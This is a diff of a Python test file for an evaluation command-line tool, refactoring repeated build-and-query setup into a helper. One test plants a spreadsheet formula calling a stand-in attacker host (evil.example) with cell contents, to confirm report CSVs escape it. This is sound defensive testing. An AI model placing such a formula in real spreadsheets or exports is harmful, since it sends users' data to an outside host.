@@ -39,6 +39,14 @@ def invoke(*args):
     return runner.invoke(app, [str(a) for a in args], terminal_width=300)
 
 
+def queried_run(tmp_path):
+    """A run of one Matching image, asked of the tiny model: (run, its responses.jsonl)."""
+    run = tmp_path / "run"
+    assert invoke("build", run, "--task", "Matching", "--max-per-category", "1").exit_code == 0
+    assert invoke("query", run, "--target", "tiny", "--limit", "1").exit_code == 0
+    return run, next((run / "responses").glob("*/responses.jsonl"))
+
+
 def test_line_breakers_and_surrogates_survive_query_score_and_report(tmp_path):
     factory = tmp_path / "breaker.py"
     factory.write_text(FACTORY.format(breakers=BREAKERS))
@@ -258,10 +266,8 @@ def test_a_second_writer_of_a_stage_folder_is_refused_with_one_line(tmp_path):
     import subprocess
     import sys
 
-    run = tmp_path / "run"
-    assert invoke("build", run, "--task", "Matching", "--max-per-category", "1").exit_code == 0
-    assert invoke("query", run, "--target", "tiny", "--limit", "1").exit_code == 0
-    folder = next((run / "responses").glob("*/responses.jsonl")).parent
+    run, path = queried_run(tmp_path)
+    folder = path.parent
     rows = len(read_jsonl(folder / "responses.jsonl"))
     writers = [(folder, ["query", run, "--target", "tiny", "--limit", "1"]),
                (run / "scores" / folder.name, ["score", run, "--set", "metrics=[keyword_asr]"])]
@@ -303,10 +309,7 @@ def test_answers_that_are_not_text_are_failures_naming_the_line_never_scores(tmp
 
 
 def test_a_run_whose_target_stored_a_number_scores_the_rest(tmp_path):
-    run = tmp_path / "run"
-    assert invoke("build", run, "--task", "Matching", "--max-per-category", "1").exit_code == 0
-    assert invoke("query", run, "--target", "tiny", "--limit", "1").exit_code == 0
-    path = next((run / "responses").glob("*/responses.jsonl"))
+    run, path = queried_run(tmp_path)
     rows = read_jsonl(path)
     rows[0]["response"] = 42  # what a careless custom target could leave
     path.write_text("".join(json.dumps(r) + "\n" for r in rows))
@@ -376,10 +379,7 @@ def test_csv_cells_that_start_like_formulas_are_escaped():
 
 
 def test_a_formula_from_the_data_reaches_no_report_csv(tmp_path):
-    run = tmp_path / "run"
-    assert invoke("build", run, "--task", "Matching", "--max-per-category", "1").exit_code == 0
-    assert invoke("query", run, "--target", "tiny", "--limit", "1").exit_code == 0
-    path = next((run / "responses").glob("*/responses.jsonl"))
+    run, path = queried_run(tmp_path)
     rows = read_jsonl(path)
     for row in rows:
         row["modality"] = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
